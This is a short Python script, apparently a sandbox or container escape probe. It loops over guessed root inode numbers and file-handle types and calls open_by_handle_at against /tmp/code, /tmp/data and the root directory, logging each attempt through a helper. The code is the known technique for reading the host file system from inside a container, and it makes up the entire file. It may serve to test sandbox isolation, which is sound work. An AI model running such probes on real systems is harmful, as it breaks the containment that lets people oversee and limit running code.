import ctypes
import os

from attempts import attempt, call

# root of a file system is most often number 2 or 128; the handle is what name_to_handle_at gives
for inode in (2, 64, 128, 256):
    for kind in (1, 2, 0x81, 0x4d):
        handle = ctypes.create_string_buffer((8).to_bytes(4, 'little') + kind.to_bytes(4, 'little') + inode.to_bytes(4, 'little') + bytes(4))
        for base in ('/tmp/code', '/tmp/data', '/'):
            attempt('%s %d' % (base, inode), lambda: call('open_by_handle_at', os.open(base, os.O_RDONLY), handle, os.O_RDONLY))
